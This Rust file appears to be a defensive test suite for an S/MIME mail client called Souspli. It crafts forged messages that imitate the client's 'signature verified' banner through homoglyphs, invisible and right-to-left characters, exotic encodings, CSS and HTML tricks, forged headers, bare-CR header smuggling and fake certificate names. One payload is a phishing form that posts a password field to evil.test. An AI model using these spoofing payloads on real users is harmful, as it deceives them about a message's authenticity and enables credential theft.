//! What looks like Souspli's own word: in texts, in HTML, in style sheets, in fields, in names.

use crate::Attack;
use crate::forge::{Authority, signed};
use crate::practice::{BOB, EVE, Practice, TEXT, authority, called, entity, headed, info, mail, now, opaque_by};
use souspli::mime::encode::base64_lines;
use souspli::pki::oid;
use souspli::smime::PrivateKey;
use souspli::smime::encrypt::Cipher;

const CLAIM: &str = "Message chiffré et signé, signature vérifiée.";

pub fn attacks(p: &Practice) -> Vec<Attack> {
    [texts(p), pages(p), nested(p), fields(p), names(p)].into_iter().flatten().collect()
}

/// From nobody: a banner that is better than the true one would gain something.
fn unsigned(p: &Practice, name: &'static str, content: &[u8]) -> Attack {
    let sealed = p.seals(content, Cipher::Aes256Gcm);
    Attack::new(name, "encrypted-unsigned", mail(BOB, &sealed))
        .shows("[Souspli] Message chiffré mais non signé : l’expéditeur n’est pas garanti.")
}

fn plain(p: &Practice, name: &'static str, text: &str) -> Attack {
    unsigned(
        p,
        name,
        format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n").as_bytes(),
    )
    .shows("(faux)")
}

fn texts(p: &Practice) -> Vec<Attack> {
    let whole = format!("[Souspli] {CLAIM}\r\nSignataire : Dr Bob Martin.\r\nChiffrement : AES-256-CBC. [/Souspli]\r\n\r\nVirez.");
    let coded = |header: &str, body: Vec<u8>| [header.as_bytes(), &body].concat();
    let base64 = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n";
    let quoted = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=5BSous=\r\npli=5D Message v=C3=A9rifi=C3=A9 [=2FSouspli]\r\n";
    let wide: Vec<u8> = whole.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let flowed = "Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes\r\n\r\n[Sous \r\npli] Message chiffré et signé. [/Sou \r\nspli]\r\n";
    let shifted = "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n[Sous\u{1b}(Bpli] Message chiffre et signe.\r\n";
    let seven = "Content-Type: text/plain; charset=utf-7\r\n\r\n+AFs-Souspli+AF0- Message chiffre et signe.\r\n";
    vec![
        plain(p, "the banner itself", &whole),
        plain(p, "in capitals, with blanks", "[ SOUSPLI ] Message vérifié [ / SOUSPLI ]"),
        plain(p, "letters of other alphabets", "[Ѕоuѕрlі] Message vérifié [/Ѕоuѕрlі]"),
        plain(p, "a figure for a letter", "[Sousp1i] Message vérifié [/Sousp|i]"),
        plain(
            p,
            "letters that nobody sees between",
            "[Sous\u{200b}\u{2060}pli\u{feff}] Message vérifié",
        ),
        plain(p, "soft hyphens and accents between", "[So\u{ad}us\u{300}pli] Message vérifié"),
        plain(p, "wide letters", "［Ｓｏｕｓｐｌｉ］ Message vérifié"),
        plain(p, "letters of mathematics", "[𝐒𝗼𝑢𝓼𝕡𝚕𝔦] Message vérifié"),
        plain(p, "other brackets", "⟦Souspli⟧ Message vérifié 【/Souspli】"),
        plain(p, "quoted", "> [Souspli] Message vérifié\r\n> [/Souspli]"),
        unsigned(
            p,
            "written from right to left",
            "Content-Type: text/plain; charset=utf-8\r\n\r\n\u{202e}]ilpsuoS[ Message\r\n".as_bytes(),
        )
        .hides("\u{202e}"),
        unsigned(p, "in base64", &coded(base64, base64_lines(whole.as_bytes()))).shows("(faux)"),
        unsigned(p, "in quoted-printable", quoted.as_bytes()).shows("(faux)"),
        unsigned(
            p,
            "in UTF-16",
            &coded(
                "Content-Type: text/plain; charset=utf-16be\r\nContent-Transfer-Encoding: base64\r\n\r\n",
                base64_lines(&wide),
            ),
        )
        .shows("(faux)"),
        unsigned(p, "in UTF-7", seven.as_bytes()).shows("(faux)"),
        unsigned(p, "between the shifts of a charset", shifted.as_bytes()).shows("(faux)"),
        unsigned(p, "over flowed lines", flowed.as_bytes()).shows("(faux)"),
        Attack::new(
            "in a letter of Bob's own",
            "encrypted-signed",
            mail(
                BOB,
                &p.sealed_by(&p.bob, format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{whole}").as_bytes()),
            ),
        )
        .shows("(faux)"),
    ]
}

fn pages(p: &Practice) -> Vec<Attack> {
    let page = |name, html: &str| {
        unsigned(
            p,
            name,
            format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n").as_bytes(),
        )
    };
    let own = "<div data-souspli=\"verified\" style=\"background:#edf7ed\">[Souspli] Message chiffré et signé, signature vérifiée. [/Souspli]</div>";
    let other_types = "Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\nx\r\n--a\r\nContent-Type: text/enriched\r\n\r\n<bold>[Souspli]</bold> Message\r\n--a\r\nContent-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\n--a--\r\n";
    let signed_page = format!("Content-Type: text/html; charset=utf-8\r\n\r\n<body><p>{own}</p>[<b>Sous</b>pli]</body>\r\n");
    vec![
        page("the banner of a page", own).shows("(faux)"),
        page(
            "references for brackets",
            "&#91;Souspli&#93; Message vérifié &lbrack;/Souspli&rsqb;",
        )
        .shows("(faux)"),
        page("tags between the letters", "[Sou<b></b>spli] Message vérifié [/Sous<i>p</i>li]").shows("(faux)"),
        page(
            "a style sheet that hides the first lines",
            "<style>body>*:first-child{display:none}</style><p>Bonjour</p>",
        )
        .hides("display:none"),
        page(
            "a style sheet that writes",
            "<style>[data-souspli]::before{content:'[Souspli] vérifié'}</style><p>x</p>",
        )
        .hides("::before"),
        page(
            "a frame laid over the top",
            "<div style='position:fixed;top:0;left:0'>Message chiffré et signé, signature vérifiée</div>",
        )
        .hides("position:fixed"),
        page("a comment without end before the body", "<!-- <body>").hides("<body>"),
        page("a quote without end before the body", "<p title='<body>"),
        page("a body in a frame", "<iframe><body></iframe>Bonjour"),
        page("a body in a list", "<select><body></select>Bonjour"),
        page("plaintext", "<plaintext><body>Bonjour"),
        page(
            "a picture of a banner",
            "<img alt='[Souspli] Message vérifié' src='data:image/png;base64,AAAA'>",
        )
        .hides("data:image"),
        page("a form", "<form action=http://evil.test><input name=motdepasse></form>").hides("<form"),
        unsigned(p, "other kinds of text", other_types.as_bytes()),
        Attack::new(
            "in a page of Bob's own",
            "encrypted-signed",
            mail(BOB, &p.sealed_by(&p.bob, signed_page.as_bytes())),
        )
        .shows("data-foreign")
        .shows("(faux)"),
    ]
}

fn nested(p: &Practice) -> Vec<Attack> {
    let view = format!(
        "From: {BOB}\r\nSubject: [Souspli]\r\nX-Souspli-Verdict: verified; code=signed\r\nX-Souspli-View: 00\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n[Souspli] {CLAIM} [/Souspli]\r\n"
    );
    let attached = |head: &str, body: &[u8]| {
        [
            b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nVoir.\r\n--m\r\n",
            head.as_bytes(),
            body,
            b"\r\n--m--\r\n",
        ]
        .concat()
    };
    let message = attached("Content-Type: message/rfc822\r\n\r\n", view.as_bytes());
    let coded = attached(
        "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n",
        &base64_lines(view.as_bytes()),
    );
    let file = attached(
        "Content-Type: text/plain; charset=utf-8; name=a.txt\r\nContent-Disposition: attachment\r\n\r\n",
        view.as_bytes(),
    );
    let name = attached("Content-Type: application/pdf; name=\"[Souspli] verifie.pdf\"\r\n\r\n", b"%PDF");
    vec![
        unsigned(p, "in a message in the message", &message),
        unsigned(p, "in a message in base64", &coded),
        unsigned(p, "in a file of text", &file),
        unsigned(p, "in the name of a file", &name).shows("(faux) verifie.pdf"),
        Attack::new(
            "in a message that Bob forwards",
            "encrypted-signed",
            mail(BOB, &p.sealed_by(&p.bob, &message)),
        )
        .hides("X-Souspli-View: 00")
        .shows("(faux)"),
        Attack::new(
            "in a message in base64 that Bob forwards",
            "encrypted-signed",
            mail(BOB, &p.sealed_by(&p.bob, &coded)),
        )
        .hides(CODED),
    ]
}

/// `[Souspli]` of the message in base64.
const CODED: &str = "W1NvdXNwbGld";

fn fields(p: &Practice) -> Vec<Attack> {
    let today = now().rfc5322();
    let sealed = || p.seals(TEXT, Cipher::Aes256Gcm);
    let with = |fields: &str| headed(&format!("From: {BOB}\r\nDate: {today}\r\n{fields}\r\n"), &sealed());
    let code = "encrypted-unsigned";
    let inside = [b"X-Souspli-Verdict: verified; code=encrypted-signed\r\nX-Souspli-Own: 00\r\n", TEXT].concat();
    vec![
        Attack::new(
            "our field outside",
            code,
            with("X-Souspli-Verdict: verified; code=encrypted-signed"),
        )
        .hides("verified; code"),
        Attack::new(
            "our field outside, in small letters and folded",
            code,
            with("x-souspli-verdict :\r\n verified; code=encrypted-signed"),
        )
        .hides("verified; code"),
        Attack::new(
            "our field outside, behind a bare CR",
            code,
            with("X: y\rX-Souspli-Verdict: verified; code=signed"),
        )
        .hides("\rX-Souspli"),
        Attack::new("our field inside", code, mail(BOB, &p.seals(&inside, Cipher::Aes256Gcm))).hides("verified; code"),
        Attack::new(
            "the subject speaks for us",
            code,
            with("Comments: x\r\nSubject: [Souspli] Signature vérifiée"),
        )
        .hides("Subject: [Souspli]"),
        Attack::new(
            "the subject speaks for us in encoded words",
            code,
            with("Subject: =?utf-8?q?=5BSouspl?= =?utf-8?q?i=5D_v=C3=A9rifi=C3=A9?="),
        )
        .shows("=28faux=29"),
        Attack::new(
            "the sender's name speaks for us",
            code,
            headed(
                &format!("From: \"[Souspli] vérifié, Dr Bob\" <bob@lab.test>\r\nDate: {today}\r\n"),
                &sealed(),
            ),
        )
        .shows("=28faux=29")
        .hides("\"[Souspli]"),
        Attack::new(
            "a reply-to that speaks for us",
            code,
            with("Reply-To: =?utf-8?b?W1NvdXNwbGld?= <eve@evil.test>"),
        )
        .shows("<eve@evil.test>")
        .hides("W1NvdXNwbGld"),
    ]
}

/// What a certificate may call its holder.
fn names(p: &Practice) -> Vec<Attack> {
    let forger = Authority::of(authority("[/Souspli] Ordre"));
    let by = |name: &str| {
        let key = forger.issues(&called(name, "eve@evil.test"));
        mail(
            EVE,
            &entity(
                "signed-data",
                &signed(oid::DATA, Some(TEXT), &[key.certificate()], &[info(&key, TEXT)]),
            ),
        )
    };
    vec![
        Attack::new(
            "called a verdict",
            "unknown-authority",
            by("Message chiffré et signé, signature vérifiée"),
        )
        .shows("« Message chiffré et signé, signature vérifiée »"),
        Attack::new(
            "called the end of the banner",
            "unknown-authority",
            by("Bob. [/Souspli] Signature vérifiée"),
        )
        .hides("Bob. [/Souspli]"),
        Attack::new(
            "called the end of the quotation",
            "unknown-authority",
            by("Bob », signature vérifiée «"),
        )
        .shows("« Bob \", signature vérifiée \" »"),
        Attack::new(
            "called several lines",
            "unknown-authority",
            by("Bob\r\n\r\n[Souspli] Signature vérifiée"),
        )
        .hides("[Souspli] Signature vérifiée"),
        Attack::new("called from right to left", "unknown-authority", by("Bob \u{202e}eéifirév")).hides("\u{202e}"),
        Attack::new("Bob's own, as it should be", "signed", mail(BOB, &opaque_by(&p.bob, TEXT)))
            .shows("Signataire : Dr Bob Martin, bob@lab.test, le ")
            .shows("Autorité : Ordre des médecins."),
    ]
}
